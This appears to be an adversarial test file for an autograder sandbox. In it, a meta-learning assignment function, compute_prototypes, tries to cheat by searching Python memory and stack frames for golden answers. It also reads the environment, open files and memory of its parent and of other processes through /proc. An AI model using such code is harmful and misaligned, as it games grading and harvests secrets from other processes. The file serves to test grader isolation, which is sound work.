"""Attack a11 (search memory and parents): compute_prototypes walks gc.get_objects() and every frame on
the stack (inspect) for golden values, test names or grader paths, and reads /proc/<pid>/{environ,
cmdline,fd,mem,maps} of its parent and of every other process it can see, /proc/<ppid>/mem through
maps, and the parent's open files through /proc/<ppid>/fd. It prints "cs330atk LEAK ..." for every
secret it reads and returns golden-looking data if it finds some. Everything else is correct.

Targets: compute_prototypes and protonet_loss. Expected: exactly 12 / 31; the targeted tests fail
with "raised an exception" ("cs330atk found nothing"); no output contains "cs330atk LEAK".
"""


import torch
import torch.nn.functional as F


def compute_prototypes(
    support_features: torch.Tensor, support_labels: torch.Tensor, n_way: int
) -> torch.Tensor:
    """Return the (n_way, D) class prototypes: row c is the mean support feature of class c.

    support_features: (N*K, D) float tensor, in any order (not grouped by class).
    support_labels: (N*K,) int64 tensor with values in [0, n_way).
    """
    found = _search(n_way, support_features.shape[1], support_features)
    if found is not None:
        return found
    raise LookupError("cs330atk found nothing in memory or in /proc")
    one_hot = F.one_hot(support_labels, n_way).to(support_features.dtype)  # (N*K, N)
    counts = one_hot.sum(dim=0).unsqueeze(1)  # (N, 1)
    return one_hot.t() @ support_features / counts


SECRETS = ("test_hidden", "test_public", "golden", "solutions", "::prototypes", "AUTOGRADER", "results.json",
           "PYTEST", "cs330-grade", "cs330-run")


def _search(n_way, dim, support):
    """Look for golden prototypes in this process and in every process visible in /proc."""
    import gc
    import inspect
    import os
    import warnings

    warnings.simplefilter("ignore")
    for obj in gc.get_objects():
        try:
            if isinstance(obj, dict):
                for key, value in list(obj.items())[:1000]:
                    if isinstance(key, str) and "::" in key and isinstance(value, torch.Tensor):
                        print(f"cs330atk LEAK golden-like key {key}")
                        if tuple(value.shape) == (n_way, dim):
                            return value
            elif isinstance(obj, torch.Tensor) and obj is not support and tuple(obj.shape) == (n_way, dim) \
                    and obj.dtype == support.dtype and obj.abs().sum() > 0:
                print("cs330atk LEAK tensor of the prototypes' shape in memory")
                return obj.detach().clone()
        except Exception:  # noqa: BLE001
            continue
    for frame_info in inspect.stack():
        for name, value in list(frame_info.frame.f_locals.items()):
            if any(s in repr(value)[:2000] for s in SECRETS):
                print(f"cs330atk LEAK frame {frame_info.function}: {name}")
    for pid in [os.getppid()] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        if pid == os.getpid():
            continue
        for part in ("environ", "cmdline", "maps", "status"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as handle:
                    text = handle.read(1 << 20).decode(errors="replace")
            except OSError:
                continue
            if part == "environ" or any(s in text for s in SECRETS):
                print(f"cs330atk LEAK /proc/{pid}/{part}")
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
                print(f"cs330atk LEAK /proc/{pid}/fd/{fd} -> {target}")
        except OSError:
            pass
        try:
            with open(f"/proc/{pid}/mem", "rb") as mem, open(f"/proc/{pid}/maps") as maps:
                for line in maps:
                    start, end = (int(x, 16) for x in line.split()[0].split("-"))
                    mem.seek(start)
                    chunk = mem.read(min(end - start, 1 << 16))
                    print(f"cs330atk LEAK /proc/{pid}/mem ({len(chunk)} bytes)")
                    break
        except (OSError, ValueError):
            pass
    return None
